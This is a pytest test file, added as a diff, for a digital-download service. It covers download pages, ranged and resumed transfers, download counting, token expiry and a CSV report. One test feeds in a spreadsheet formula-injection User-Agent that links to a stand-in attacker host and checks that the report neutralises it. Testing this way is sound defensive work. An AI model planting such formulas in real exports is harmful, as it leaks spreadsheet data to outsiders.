@@ -1,0 +1,718 @@
+"""The buyer's side of a token: the download page, file transfers, and what they spend.
+
+Covers the page (HTML and JSON), HEAD, link-preview bots, whole-file and
+ranged GETs (If-Range, 416, resume, empty files) on local and S3 storage,
+how downloads are counted (sessions by client, by the page cookie, and under
+a race of 100 concurrent clients), expired / revoked / unknown tokens, the
+CSV downloads report, and presigned S3 redirects. Everything goes through
+HTTP, on SQLite and PostgreSQL.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import dataclasses
+import hashlib
+import html
+import io
+import random
+import re
+from collections.abc import AsyncIterator, Callable
+from datetime import UTC, datetime, timedelta
+from urllib.parse import quote, unquote
+
+import httpx
+import pytest
+from litestar import Litestar
+
+from hub.settings import Settings
+from hub.tables import DownloadSession, DownloadToken
+from tests.conftest import PUBLIC_URL, Org, fails, ok
+from tests.support.catalog import Delivery, mint, sell
+
+BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
+SLACKBOT = "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"
+
+
+def payload(size: int, seed: int) -> bytes:
+    return random.Random(seed).randbytes(size)
+
+
+KICK = payload(1_500_000, 1)  # more than one 1 MiB streaming chunk
+SNARE = payload(300_000, 2)
+README = b"Thanks for buying Epic Drum Kit! 42 bytes."
+PACK = {"Kicks/kick 01.wav": KICK, "Snares/snare.wav": SNARE, "README.txt": README}
+
+both_storages = pytest.mark.parametrize("storage", ["local", "s3"])
+
+
+# --- fixtures and helpers ----------------------------------------------------------
+
+
+@pytest.fixture
+def download_redirect() -> bool:
+    """Parametrize to ``True`` to answer file GETs with presigned redirects."""
+    return False
+
+
+@pytest.fixture
+def settings(settings: Settings, download_redirect: bool) -> Settings:
+    return dataclasses.replace(settings, download_redirect=download_redirect)
+
+
+Visitor = Callable[..., httpx.AsyncClient]
+
+
+@pytest.fixture
+async def visitor(app: Litestar, client: httpx.AsyncClient) -> AsyncIterator[Visitor]:
+    """Make a buyer's HTTP client: its own cookie jar, User-Agent and IP address."""
+    opened: list[httpx.AsyncClient] = []
+
+    def make(user_agent: str = BROWSER, ip: str = "198.51.100.20") -> httpx.AsyncClient:
+        buyer = httpx.AsyncClient(
+            transport=httpx.ASGITransport(app=app, client=(ip, 51000)),
+            base_url=PUBLIC_URL,
+            headers={"User-Agent": user_agent},
+        )
+        opened.append(buyer)
+        return buyer
+
+    yield make
+    for buyer in opened:
+        await buyer.aclose()
+
+
+async def used_count(client: httpx.AsyncClient, org: Org, delivery: Delivery) -> int:
+    """The token's usedCount as the shop sees it through the API."""
+    tokens = ok(await client.get(f"/api/products/{delivery.product_id}/tokens", headers=org.viewer))["tokens"]
+    return next(t["usedCount"] for t in tokens if t["id"] == delivery.token_id)
+
+
+async def report(client: httpx.AsyncClient, org: Org, **params: str) -> list[dict[str, str]]:
+    response = await client.get("/api/reports/downloads", params=params, headers=org.admin)
+    assert response.status_code == 200, response.text
+    assert response.headers["content-type"].startswith("text/csv")
+    return list(csv.DictReader(io.StringIO(response.text)))
+
+
+def sha256(data: bytes) -> str:
+    return hashlib.sha256(data).hexdigest()
+
+
+def etag_of(data: bytes) -> str:
+    return f'"{sha256(data)[:32]}"'
+
+
+def error_page(response: httpx.Response, status: int, *fragments: str) -> str:
+    """Assert a download error answered as an HTML page for people."""
+    assert response.status_code == status, f"{response.status_code}: {response.text}"
+    assert response.headers["content-type"].startswith("text/html")
+    text = html.unescape(response.text)
+    for fragment in fragments:
+        assert fragment in text, f"{fragment!r} not in the page"
+    assert "Traceback" not in text
+    return text
+
+
+# --- the download page ----------------------------------------------------------
+
+
+async def test_download_page_lists_each_file_with_its_size_and_a_link(client, org, visitor):
+    delivery = await sell(client, org.member, PACK, max_downloads=3)
+    buyer = visitor()
+
+    page = await buyer.get(delivery.download_url, headers={"Accept": "text/html"})
+
+    assert page.status_code == 200
+    assert page.headers["content-type"].startswith("text/html")
+    assert page.headers["cache-control"] == "no-store"
+    assert page.headers["x-robots-tag"] == "noindex"
+    assert page.headers["referrer-policy"] == "no-referrer"
+    text = page.text
+    assert "Epic Drum Kit" in text and "Version 1.0.0" in text
+    assert "Downloads left <strong>3</strong> of 3" in text
+    for path, size in [("Kicks/kick 01.wav", "1.5 MB"), ("Snares/snare.wav", "300.0 KB"), ("README.txt", "42 bytes")]:
+        row = re.search(
+            rf'<span class="file-name">{re.escape(path)}</span>\s*<span class="file-size">{re.escape(size)}</span>\s*'
+            rf'<a class="button" href="([^"]+)"',
+            text,
+        )
+        assert row, f"no row for {path} ({size})"
+        assert html.unescape(row.group(1)) == delivery.url(path)
+    assert delivery.url("Kicks/kick 01.wav") == (
+        f"{PUBLIC_URL}/download/files/{delivery.url('Kicks/kick 01.wav').split('/')[5]}/kick%2001.wav?token={delivery.secret}"
+    )
+    # The page hands the browser a session cookie scoped to the download pages.
+    cookie = page.headers["set-cookie"]
+    assert cookie.startswith("ct_dl=") and "Path=/download" in cookie and "HttpOnly" in cookie
+
+
+async def test_download_page_as_json_describes_the_token_and_its_files(client, org, visitor):
+    delivery = await sell(client, org.member, PACK, max_downloads=5)
+
+    response = await visitor().get(delivery.download_url, headers={"Accept": "application/json"})
+
+    page = ok(response)
+    assert response.headers["cache-control"] == "no-store"
+    assert page["product"] == {"id": "epic-drums", "name": "Epic Drum Kit", "version": "1.0.0"}
+    assert page["maxDownloads"] == 5 and page["usedCount"] == 0 and page["downloadsLeft"] == 5
+    assert page["expiresAt"] == delivery.token["expiresAt"]
+    files = {f["path"]: f for f in page["files"]}
+    assert set(files) == set(PACK)
+    for path, data in PACK.items():
+        assert files[path]["size"] == len(data)
+        assert files[path]["sha256"] == sha256(data)
+        assert files[path]["url"].startswith(f"{PUBLIC_URL}/download/files/{files[path]['id']}/")
+
+
+@both_storages
+async def test_opening_the_page_and_head_requests_spend_nothing(client, org, visitor):
+    delivery = await sell(client, org.member, PACK, max_downloads=1)
+    buyer = visitor()
+
+    for _ in range(5):
+        assert (await buyer.get(delivery.download_url)).status_code == 200
+        assert (await buyer.get(delivery.download_url, headers={"Accept": "application/json"})).status_code == 200
+    for path, data in PACK.items():
+        head = await buyer.head(delivery.url(path))
+        assert head.status_code == 200
+        assert head.content == b""
+        assert int(head.headers["content-length"]) == len(data)
+        assert head.headers["accept-ranges"] == "bytes"
+        assert head.headers["etag"] == etag_of(data)
+    partial = await buyer.head(delivery.url("Kicks/kick 01.wav"), headers={"Range": "bytes=0-9"})
+    assert partial.status_code == 206 and partial.headers["content-range"] == f"bytes 0-9/{len(KICK)}"
+
+    page = ok(await visitor().get(delivery.download_url, headers={"Accept": "application/json"}))
+    assert page["usedCount"] == 0 and page["downloadsLeft"] == 1
+    assert await report(client, org) == []
+
+
+@pytest.mark.parametrize("bot", [SLACKBOT, "facebookexternalhit/1.1", "Mozilla/5.0 (compatible; Discordbot/2.0)"])
+async def test_link_preview_bot_on_a_file_link_is_sent_to_the_page_and_spends_nothing(client, org, visitor, bot):
+    delivery = await sell(client, org.member, PACK, max_downloads=1)
+
+    response = await visitor(user_agent=bot).get(delivery.url("README.txt"))
+
+    assert response.status_code == 303
+    assert response.headers["location"] == f"/download?token={delivery.secret}"
+    assert response.content != README
+    assert await used_count(client, org, delivery) == 0
+    assert await report(client, org) == []
+    # The buyer's own click still gets the file.
+    assert (await visitor().get(delivery.url("README.txt"))).content == README
+
+
+# --- file transfers -----------------------------------------------------------
+
+
+@both_storages
+async def test_file_download_sends_the_whole_file_with_its_headers(client, org, visitor):
+    delivery = await sell(client, org.member, PACK)
+
+    response = await visitor().get(delivery.url("Kicks/kick 01.wav"))
+
+    assert response.status_code == 200
+    assert response.content == KICK
+    assert response.headers["content-length"] == str(len(KICK))
+    assert response.headers["content-type"] == "application/octet-stream"
+    assert response.headers["content-disposition"] == (
+        "attachment; filename=\"kick 01.wav\"; filename*=UTF-8''kick%2001.wav"
+    )
+    assert response.headers["etag"] == etag_of(KICK)
+    assert response.headers["accept-ranges"] == "bytes"
+    assert "last-modified" in response.headers
+    assert "content-range" not in response.headers
+
+
+@both_storages
+async def test_non_ascii_filename_survives_in_content_disposition(client, org, visitor):
+    name = "Grüße – Kick 🥁.wav"
+    files = {f"Ünïcødé/{name}": b"\x00\x01 kick"}
+    delivery = await sell(client, org.member, files)
+
+    response = await visitor().get(delivery.url(f"Ünïcødé/{name}"))
+
+    assert response.content == b"\x00\x01 kick"
+    disposition = response.headers["content-disposition"]
+    assert disposition.startswith("attachment; ")
+    fallback = re.search(r'filename="([^"]*)"', disposition).group(1)
+    assert fallback.isascii() and fallback.endswith(".wav") and fallback.startswith("Gr")
+    encoded = re.search(r"filename\*=UTF-8''([^;\s]+)", disposition).group(1)
+    assert unquote(encoded, encoding="utf-8") == name
+    assert delivery.url(f"Ünïcødé/{name}").split("?")[0].endswith("/" + quote(name))
+
+
+@both_storages
+@pytest.mark.parametrize(
+    ("header", "start", "end"),
+    [
+        ("bytes=0-99", 0, 99),
+        ("bytes=1000-1999", 1000, 1999),
+        ("bytes=1200000-", 1_200_000, 1_499_999),
+        ("bytes=-500", 1_499_500, 1_499_999),
+        ("bytes=1499990-99999999", 1_499_990, 1_499_999),  # the end is clamped to the last byte
+        ("bytes=-9999999", 0, 1_499_999),  # a suffix longer than the file is the whole file
+    ],
+)
+async def test_range_request_sends_exactly_the_bytes_asked_for(client, org, visitor, header, start, end):
+    delivery = await sell(client, org.member, PACK)
+
+    response = await visitor().get(delivery.url("Kicks/kick 01.wav"), headers={"Range": header})
+
+    assert response.status_code == 206
+    assert response.content == KICK[start : end + 1]
+    assert response.headers["content-range"] == f"bytes {start}-{end}/{len(KICK)}"
+    assert response.headers["content-length"] == str(end - start + 1)
+    assert response.headers["etag"] == etag_of(KICK)
+
+
+@pytest.mark.parametrize("header", ["bytes=1500000-", "bytes=9999999-10000000", "bytes=-0"])
+async def test_unsatisfiable_range_is_416_with_the_size_and_spends_nothing(client, org, visitor, header):
+    delivery = await sell(client, org.member, PACK, max_downloads=1)
+
+    response = await visitor().get(delivery.url("Kicks/kick 01.wav"), headers={"Range": header})
+
+    fails(response, 416, "1500000 bytes")
+    assert response.headers["content-range"] == f"bytes */{len(KICK)}"
+    assert await used_count(client, org, delivery) == 0
+    assert await report(client, org) == []
+
+
+async def test_malformed_or_multiple_ranges_get_the_whole_file(client, org, visitor):
+    delivery = await sell(client, org.member, PACK)
+    buyer = visitor()
+
+    for header in ["bytes=abc", "bytes=99-10", "items=0-5", "bytes=0-1,5-9"]:
+        response = await buyer.get(delivery.url("README.txt"), headers={"Range": header})
+        assert response.status_code == 200, header
+        assert response.content == README
+
+
+@both_storages
+async def test_if_range_with_the_current_etag_resumes_and_a_stale_one_restarts(client, org, visitor):
+    delivery = await sell(client, org.member, PACK)
+    buyer = visitor()
+    first = await buyer.get(delivery.url("Snares/snare.wav"), headers={"Range": "bytes=0-999"})
+    etag, last_modified = first.headers["etag"], first.headers["last-modified"]
+
+    resumed = await buyer.get(delivery.url("Snares/snare.wav"), headers={"Range": "bytes=1000-", "If-Range": etag})
+    assert resumed.status_code == 206
+    assert first.content + resumed.content == SNARE
+
+    by_date = await buyer.get(
+        delivery.url("Snares/snare.wav"), headers={"Range": "bytes=1000-", "If-Range": last_modified}
+    )
+    assert by_date.status_code == 206 and by_date.content == SNARE[1000:]
+
+    for stale in ['"' + "0" * 32 + '"', "W/" + etag, "Mon, 01 Jan 2001 00:00:00 GMT"]:
+        restarted = await buyer.get(delivery.url("Snares/snare.wav"), headers={"Range": "bytes=1000-", "If-Range": stale})
+        assert restarted.status_code == 200, stale
+        assert restarted.content == SNARE
+        assert "content-range" not in restarted.headers
+
+
+@both_storages
+async def test_interrupted_download_resumes_from_the_offset_without_spending_another(client, org, visitor):
+    delivery = await sell(client, org.member, PACK, max_downloads=1)
+    buyer = visitor()
+    half = len(KICK) // 2
+
+    first = await buyer.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": f"bytes=0-{half - 1}"})
+    rest = await buyer.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": f"bytes={half}-"})
+
+    assert (first.status_code, rest.status_code) == (206, 206)
+    assert len(first.content) == half
+    assert sha256(first.content + rest.content) == sha256(KICK)
+    assert await used_count(client, org, delivery) == 1
+    [row] = await report(client, org)
+    assert int(row["bytes_sent"]) == len(KICK)
+
+
+@both_storages
+async def test_empty_file_downloads_as_zero_bytes(client, org, visitor):
+    files = {"LICENSE-EMPTY.txt": b"", "README.txt": README}
+    delivery = await sell(client, org.member, files, max_downloads=1)
+    buyer = visitor()
+
+    response = await buyer.get(delivery.url("LICENSE-EMPTY.txt"))
+
+    assert response.status_code == 200
+    assert response.content == b""
+    assert response.headers["content-length"] == "0"
+    assert response.headers["etag"] == etag_of(b"")
+    ranged = await buyer.get(delivery.url("LICENSE-EMPTY.txt"), headers={"Range": "bytes=0-"})
+    assert ranged.status_code == 416 and ranged.headers["content-range"] == "bytes */0"
+    assert (await buyer.get(delivery.url("README.txt"))).content == README
+    assert await used_count(client, org, delivery) == 1
+
+
+async def test_file_of_another_version_or_an_unknown_file_is_404(client, org, visitor):
+    delivery = await sell(client, org.member, PACK)
+    other = await sell(client, org.member, {"other.bin": b"other"}, slug="other-kit", name="Other Kit")
+    buyer = visitor()
+
+    # A file id of another product's version, with this token: not part of this download.
+    foreign = other.url("other.bin").replace(f"token={other.secret}", f"token={delivery.secret}")
+    fails(await buyer.get(foreign), 404, "not part of this download")
+    fails(await buyer.get(f"{PUBLIC_URL}/download/files/file_nope/x.bin?token={delivery.secret}"), 404)
+    assert await used_count(client, org, delivery) == 0
+
+
+# --- counting downloads ---------------------------------------------------------
+
+
+async def test_one_client_downloading_every_file_and_resuming_spends_one_download(client, org, visitor):
+    delivery = await sell(client, org.member, PACK, max_downloads=2)
+    buyer = visitor(user_agent="curl/8.5.0")
+
+    for path, data in PACK.items():
+        assert (await buyer.get(delivery.url(path))).content == data
+    for offset in (100, 1000, 700_000, 1_499_999):
+        resumed = await buyer.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": f"bytes={offset}-"})
+        assert resumed.status_code == 206 and resumed.content == KICK[offset:]
+    assert (await buyer.get(delivery.url("README.txt"))).content == README
+
+    assert await used_count(client, org, delivery) == 1
+    assert len(await report(client, org)) == 1
+
+
+async def test_second_client_spends_the_second_download_and_a_third_is_refused(client, org, visitor):
+    delivery = await sell(client, org.member, PACK, max_downloads=2)
+    first, second, third = visitor(user_agent="curl/8.5.0"), visitor(user_agent="Wget/1.21.4"), visitor(user_agent="aria2/1.37")
+
+    assert (await first.get(delivery.url("README.txt"))).content == README
+    assert await used_count(client, org, delivery) == 1
+    assert (await second.get(delivery.url("Snares/snare.wav"))).content == SNARE
+    assert await used_count(client, org, delivery) == 2
+
+    refused = await third.get(delivery.url("README.txt"))
+    fails(refused, 403, "maximum number of times (2)")
+    assert refused.content != README
+    error_page(
+        await third.get(delivery.url("README.txt"), headers={"Accept": "text/html"}),
+        403,
+        "No downloads left on this link",
+        "maximum number of times (2)",
+    )
+    error_page(await third.get(delivery.download_url, headers={"Accept": "text/html"}), 403, "No downloads left")
+    fails(await third.get(delivery.download_url, headers={"Accept": "application/json"}), 403, "maximum number")
+
+    # The clients that spent the downloads keep their sessions: they can still fetch and resume.
+    assert (await first.get(delivery.url("Kicks/kick 01.wav"))).content == KICK
+    assert (await second.get(delivery.url("README.txt"), headers={"Range": "bytes=5-"})).content == README[5:]
+    assert (await first.get(delivery.download_url)).status_code == 200
+    assert await used_count(client, org, delivery) == 2
+    assert len(await report(client, org)) == 2
+
+
+async def test_head_answers_403_like_get_once_the_downloads_are_used_up(client, org, visitor):
+    delivery = await sell(client, org.member, PACK, max_downloads=1)
+    spender, latecomer = visitor(user_agent="curl/8.5.0"), visitor(user_agent="Wget/1.21.4")
+    assert (await spender.get(delivery.url("README.txt"))).content == README
+
+    assert (await latecomer.head(delivery.url("README.txt"))).status_code == 403
+    assert (await latecomer.get(delivery.url("README.txt"))).status_code == 403
+    still_served = await spender.head(delivery.url("Snares/snare.wav"))
+    assert still_served.status_code == 200 and still_served.headers["content-length"] == str(len(SNARE))
+    assert await used_count(client, org, delivery) == 1
+
+
+async def test_a_session_ends_after_its_hours_and_the_next_transfer_spends_again(client, org, visitor):
+    delivery = await sell(client, org.member, PACK, max_downloads=2)
+    buyer = visitor(user_agent="curl/8.5.0")
+    assert (await buyer.get(delivery.url("README.txt"))).content == README
+    # 25 hours later (HUB_DOWNLOAD_SESSION_HOURS is 24):
+    await DownloadSession.update({DownloadSession.started_at: datetime.now(UTC) - timedelta(hours=25)}).where(
+        DownloadSession.token == delivery.token_id
+    )
+
+    assert (await buyer.get(delivery.url("README.txt"), headers={"Range": "bytes=10-"})).content == README[10:]
+
+    assert await used_count(client, org, delivery) == 2
+    assert len(await report(client, org)) == 2
+
+
+async def test_unlimited_token_counts_every_session_and_refuses_none(client, org, visitor):
+    delivery = await sell(client, org.member, PACK, max_downloads=None)
+
+    for n in range(4):
+        assert (await visitor(user_agent=f"client/{n}").get(delivery.url("README.txt"))).content == README
+
+    assert await used_count(client, org, delivery) == 4
+    page = ok(await visitor().get(delivery.download_url, headers={"Accept": "application/json"}))
+    assert (page["maxDownloads"], page["usedCount"], page["downloadsLeft"]) == (None, 4, None)
+    assert "Downloads <strong>unlimited</strong>" in (await visitor().get(delivery.download_url)).text
+
+
+async def test_page_cookie_groups_a_browsers_requests_into_one_session(client, org, visitor):
+    delivery = await sell(client, org.member, PACK, max_downloads=2)
+    browser = visitor(user_agent=BROWSER, ip="198.51.100.20")
+    page = await browser.get(delivery.download_url)
+    session_cookie = page.cookies["ct_dl"]
+
+    assert (await browser.get(delivery.url("README.txt"))).content == README
+    # The same browser on another network (new IP) and after an update (new User-Agent):
+    # the cookie still identifies its session.
+    moved = visitor(user_agent=BROWSER.replace("128.0", "129.0"), ip="192.0.2.99")
+    moved.cookies.set("ct_dl", session_cookie, domain="hub.test", path="/download")
+    assert (await moved.get(delivery.url("Snares/snare.wav"))).content == SNARE
+    assert await used_count(client, org, delivery) == 1
+
+    # Without the cookie, the same IP and User-Agent is a new client: a second session.
+    assert (await visitor(user_agent=BROWSER, ip="198.51.100.20").get(delivery.url("README.txt"))).content == README
+    assert await used_count(client, org, delivery) == 2
+    rows = await report(client, org)
+    assert sorted(int(r["bytes_sent"]) for r in rows) == sorted([len(README) + len(SNARE), len(README)])
+
+
+@pytest.mark.parametrize("max_downloads", [1, 3])
+async def test_concurrent_downloads_let_exactly_max_downloads_through(client, org, visitor, max_downloads):
+    delivery = await sell(client, org.member, {"loop.wav": SNARE}, max_downloads=max_downloads)
+    crowd = visitor(user_agent="ignored")
+    url = delivery.url("loop.wav")
+
+    responses = await asyncio.gather(
+        *(crowd.get(url, headers={"User-Agent": f"Downloader/{n}"}) for n in range(100))
+    )
+
+    served = [r for r in responses if r.status_code == 200]
+    refused = [r for r in responses if r.status_code != 200]
+    assert len(served) == max_downloads
+    assert all(r.content == SNARE for r in served)
+    assert {r.status_code for r in refused} == {403}
+    assert all(r.json() == {"success": False, "error": refused[0].json()["error"]} for r in refused)
+    assert await used_count(client, org, delivery) == max_downloads
+    rows = await report(client, org)
+    assert len(rows) == max_downloads
+    assert all(int(r["bytes_sent"]) == len(SNARE) for r in rows)
+
+
+async def test_concurrent_clients_each_firing_several_requests_get_all_or_nothing(client, org, visitor):
+    delivery = await sell(client, org.member, {"loop.wav": SNARE, "README.txt": README}, max_downloads=3)
+    crowd = visitor(user_agent="ignored")
+    requests = [(n, path) for n in range(25) for path in ("loop.wav", "README.txt", "loop.wav", "README.txt")]
+
+    responses = await asyncio.gather(
+        *(crowd.get(delivery.url(path), headers={"User-Agent": f"Downloader/{n}"}) for n, path in requests)
+    )
+
+    outcome: dict[int, set[int]] = {}
+    for (n, path), response in zip(requests, responses, strict=True):
+        outcome.setdefault(n, set()).add(response.status_code)
+        if response.status_code == 200:
+            assert response.content == delivery.files[path]
+    winners = [n for n, statuses in outcome.items() if statuses == {200}]
+    assert len(winners) == 3
+    assert all(statuses == {403} for n, statuses in outcome.items() if n not in winners)
+    assert await used_count(client, org, delivery) == 3
+    rows = await report(client, org)
+    assert sorted(r["user_agent"] for r in rows) == sorted(f"Downloader/{n}" for n in winners)
+    assert all(r["files"] == "2" for r in rows)
+
+
+async def test_concurrent_requests_of_one_client_spend_one_download(client, org, visitor):
+    delivery = await sell(client, org.member, PACK, max_downloads=5)
+    buyer = visitor(user_agent="DownloadManager/7")
+    third = len(KICK) // 3
+    ranges = [f"bytes={i * third}-{(i + 1) * third - 1}" for i in range(2)] + [f"bytes={2 * third}-"]
+
+    responses = await asyncio.gather(
+        *(buyer.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": r}) for r in ranges * 7)
+    )
+
+    assert [r.status_code for r in responses] == [206] * 21
+    assert b"".join(r.content for r in responses[:3]) == KICK
+    assert await used_count(client, org, delivery) == 1
+    assert len(await report(client, org)) == 1
+
+
+# --- tokens that no longer work ----------------------------------------------------
+
+
+async def test_expired_token_is_410_as_json_and_as_a_page(client, org, visitor):
+    delivery = await sell(client, org.member, PACK, max_downloads=3)
+    await DownloadToken.update({DownloadToken.expires_at: datetime.now(UTC) - timedelta(seconds=1)}).where(
+        DownloadToken.id == delivery.token_id
+    )
+    buyer = visitor()
+
+    fails(await buyer.get(delivery.download_url, headers={"Accept": "application/json"}), 410, "expired")
+    error_page(await buyer.get(delivery.download_url), 410, "This download link no longer works", "expired")
+    fails(await buyer.get(delivery.url("README.txt")), 410, "expired")
+    error_page(await buyer.get(delivery.url("README.txt"), headers={"Accept": "text/html"}), 410, "expired")
+    assert await used_count(client, org, delivery) == 0
+
+
+async def test_token_expires_at_the_time_the_shop_chose(client, org, visitor):
+    delivery = await sell(client, org.member, PACK, expires_at=datetime.now(UTC) + timedelta(seconds=1.2))
+    buyer = visitor()
+    assert (await buyer.get(delivery.url("README.txt"))).content == README
+
+    await asyncio.sleep(1.3)
+
+    fails(await buyer.get(delivery.url("README.txt")), 410, "expired")
+
+
+async def test_revoked_token_is_410_and_an_open_session_ends_with_it(client, org, visitor):
+    delivery = await sell(client, org.member, PACK, max_downloads=3)
+    buyer = visitor()
+    assert (await buyer.get(delivery.url("README.txt"))).content == README
+    revoke = f"/api/products/{delivery.product_id}/tokens/{delivery.token_id}"
+
+    fails(await client.delete(revoke, headers=org.member), 403, "admin")
+    assert ok(await client.delete(revoke, headers=org.admin))["token"]["revoked"] is True
+
+    fails(await buyer.get(delivery.url("README.txt")), 410, "revoked")
+    fails(await buyer.get(delivery.download_url, headers={"Accept": "application/json"}), 410, "revoked")
+    error_page(await buyer.get(delivery.download_url), 410, "This download link no longer works", "revoked")
+    assert await used_count(client, org, delivery) == 1
+
+
+@pytest.mark.parametrize(
+    "query", ["?token=ct_download_" + "x" * 43, "?token=something-else", "?token=", "", "?token=ct_download_" + "y" * 500]
+)
+async def test_unknown_token_is_404(client, org, visitor, query):
+    buyer = visitor()
+    fails(await buyer.get(f"/download{query}", headers={"Accept": "application/json"}), 404, "not valid")
+    error_page(await buyer.get(f"/download{query}"), 404, "This download link is not valid")
+    fails(await buyer.get(f"/download/files/file_x/a.wav{query}"), 404, "not valid")
+
+
+# --- the downloads report --------------------------------------------------------
+
+
+async def test_report_has_one_row_per_session_with_what_was_really_sent(client, org, visitor):
+    delivery = await sell(client, org.member, PACK, max_downloads=5)
+    other_token = await mint(client, org.member, "epic-drums", PACK, customer_email="Second.Buyer@Example.com")
+    curl, browser = visitor(user_agent="curl/8.5.0", ip="198.51.100.1"), visitor(user_agent=BROWSER, ip="198.51.100.2")
+
+    sent_by_curl = 0
+    for response in [
+        await curl.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": "bytes=0-699999"}),
+        await curl.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": "bytes=700000-"}),  # resumed
+        await curl.get(delivery.url("Snares/snare.wav"), headers={"Range": "bytes=1000-4999"}),  # a peek, not the file
+        await curl.get(delivery.url("README.txt")),
+        await curl.get(delivery.url("README.txt")),  # fetched again
+    ]:
+        sent_by_curl += len(response.content)
+    sent_by_browser = len((await browser.get(other_token.url("Snares/snare.wav"))).content)
+
+    rows = {r["user_agent"]: r for r in await report(client, org)}
+    assert set(rows) == {"curl/8.5.0", BROWSER}
+    assert list(next(iter(rows.values()))) == [
+        "session_id", "token_id", "product", "version", "customer_email", "started_at", "finished_at",
+        "bytes_sent", "files", "ip", "user_agent", "status",
+    ]  # fmt: skip
+    by_curl = rows["curl/8.5.0"]
+    assert by_curl["token_id"] == delivery.token_id
+    assert (by_curl["product"], by_curl["version"]) == ("epic-drums", "1.0.0")
+    assert by_curl["customer_email"] == "buyer@example.com"
+    assert int(by_curl["bytes_sent"]) == sent_by_curl == len(KICK) + 4000 + 2 * len(README)
+    assert by_curl["files"] == "2"  # the kick (resumed) and the README; the snare was only peeked at
+    assert by_curl["ip"] == "198.51.100.1"
+    assert by_curl["status"] == "completed"
+    assert by_curl["session_id"].startswith("dls_")
+    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", by_curl["started_at"])
+    assert by_curl["finished_at"] >= by_curl["started_at"]
+    by_browser = rows[BROWSER]
+    assert by_browser["token_id"] == other_token.token_id
+    assert by_browser["customer_email"] == "second.buyer@example.com"
+    assert int(by_browser["bytes_sent"]) == sent_by_browser == len(SNARE)
+    assert (by_browser["files"], by_browser["ip"]) == ("1", "198.51.100.2")
+
+
+async def test_report_counts_a_file_fetched_in_parallel_segments_once(client, org, visitor):
+    delivery = await sell(client, org.member, PACK)
+    manager = visitor(user_agent="aria2/1.37.0")
+    quarter = len(KICK) // 4
+    segments = [f"bytes={i * quarter}-{(i + 1) * quarter - 1}" for i in range(3)] + [f"bytes={3 * quarter}-"]
+
+    parts = await asyncio.gather(*(manager.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": r}) for r in segments))
+
+    assert b"".join(p.content for p in parts) == KICK
+    [row] = await report(client, org)
+    assert (row["files"], row["bytes_sent"], row["status"]) == ("1", str(len(KICK)), "completed")
+
+
+async def test_report_filters_sessions_by_day(client, org, visitor):
+    delivery = await sell(client, org.member, PACK)
+    await visitor().get(delivery.url("README.txt"))
+    today = datetime.now(UTC).date()
+    yesterday, tomorrow = (today - timedelta(days=1)).isoformat(), (today + timedelta(days=1)).isoformat()
+
+    assert len(await report(client, org, **{"from": today.isoformat(), "to": today.isoformat()})) == 1
+    assert len(await report(client, org, **{"from": yesterday})) == 1
+    assert len(await report(client, org, to=tomorrow)) == 1
+    assert await report(client, org, to=yesterday) == []
+    assert await report(client, org, **{"from": tomorrow}) == []
+    assert await report(client, org, **{"from": yesterday, "to": yesterday}) == []
+
+
+@pytest.mark.parametrize(
+    ("params", "field"),
+    [({"from": "2026-13-01"}, "from"), ({"to": "04/30/2026"}, "to"), ({"from": "2026-04-30", "to": "2026-04-01"}, "to")],
+)
+async def test_report_with_a_malformed_date_is_422_naming_the_field(client, org, params, field):
+    response = await client.get("/api/reports/downloads", params=params, headers=org.admin)
+    error = fails(response, 422)
+    assert error.startswith(field + " "), error
+
+
+async def test_report_neutralizes_a_user_agent_that_looks_like_a_formula(client, org, visitor):
+    delivery = await sell(client, org.member, PACK)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert (await visitor(user_agent=formula).get(delivery.url("README.txt"))).content == README
+
+    [row] = await report(client, org)
+
+    assert row["user_agent"] == "'" + formula
+
+
+async def test_report_shows_only_the_callers_organization(client, org, other_org, visitor):
+    delivery = await sell(client, org.member, PACK)
+    await visitor().get(delivery.url("README.txt"))
+
+    assert len(await report(client, org)) == 1
+    assert await report(client, other_org) == []
+    fails(await client.get("/api/reports/downloads", headers=org.member), 403, "admin")
+
+
+# --- presigned S3 redirects ---------------------------------------------------------
+
+
+@pytest.mark.parametrize("storage", ["s3"])
+@pytest.mark.parametrize("download_redirect", [True])
+async def test_s3_redirect_sends_a_presigned_url_and_counts_the_download_once(client, org, visitor, s3_endpoint):
+    delivery = await sell(client, org.member, PACK, max_downloads=1)
+    buyer = visitor()
+
+    first = await buyer.get(delivery.url("Kicks/kick 01.wav"))
+    again = await buyer.get(delivery.url("README.txt"))
+
+    assert first.status_code == 302
+    location = first.headers["location"]
+    assert location.startswith(s3_endpoint + "/") and "X-Amz-Signature=" in location
+    assert delivery.secret not in location
+    async with httpx.AsyncClient() as s3:
+        fetched = await s3.get(location)
+        assert fetched.status_code == 200
+        assert fetched.content == KICK
+        assert "kick 01.wav" in unquote(fetched.headers.get("content-disposition", ""))
+        assert (await s3.get(again.headers["location"])).content == README
+    assert await used_count(client, org, delivery) == 1
+    fails(await visitor(user_agent="someone-else").get(delivery.url("README.txt")), 403)
+    [row] = await report(client, org)
+    assert row["status"] == "redirected"
+    assert int(row["bytes_sent"]) == len(KICK) + len(README)
+    assert row["files"] == "2"
+
+
+@pytest.mark.parametrize("download_redirect", [True])
+async def test_redirect_setting_on_local_storage_still_streams(client, org, visitor):
+    delivery = await sell(client, org.member, PACK)
+
+    response = await visitor().get(delivery.url("Snares/snare.wav"))
+
+    assert response.status_code == 200 and response.content == SNARE
